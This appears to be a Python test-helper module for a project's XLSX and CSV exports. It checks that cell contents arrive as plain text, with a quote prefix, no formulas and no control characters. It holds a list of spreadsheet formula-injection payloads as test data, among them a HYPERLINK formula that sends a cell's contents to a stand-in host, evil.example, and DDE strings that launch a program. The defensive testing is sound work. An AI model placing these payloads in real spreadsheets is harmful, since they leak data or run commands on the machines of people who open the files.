"""Exported tables read back by programs nobody here wrote (openpyxl for XLSX, Python's csv
module for CSV), and the strings a spreadsheet would run if they were not kept as data."""

import csv
import io
import re
import zipfile

from openpyxl import load_workbook

# Typed into an innovation, a dossier, ...: each must arrive as the text it is.
INJECTIONS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Klik di sini")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]
# Word's line break pasted in: a control character that XML refuses.
VERTICAL_TAB = "Baris satu\x0bbaris dua"
WITHOUT_VERTICAL_TAB = "Baris satubaris dua"

_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def workbook(content: bytes):
    """The workbook as openpyxl reads it, after checking that no worksheet part of the
    file holds a formula element at all."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    return load_workbook(io.BytesIO(content))


def assert_only_data(book) -> None:
    """Every sheet: no formula cell, text that looks like a formula marked as text (Excel's
    quote prefix), no control character; a bold, frozen header row with an auto-filter."""
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:"), sheet.title
        assert all(cell.font.b for cell in sheet[1] if cell.value is not None), sheet.title
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    assert not _CONTROL.search(cell.value), (cell.coordinate, cell.value)
                    if cell.value[:1] in ("=", "+", "-", "@", "\t"):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)


def read_csv(content: bytes, *, delimiter: str) -> list[list[str]]:
    """CSV as Python's csv module reads it; the file must start with the UTF-8 byte-order
    mark (which is not part of the first field)."""
    assert content.startswith(b"\xef\xbb\xbf")
    return list(
        csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter)
    )
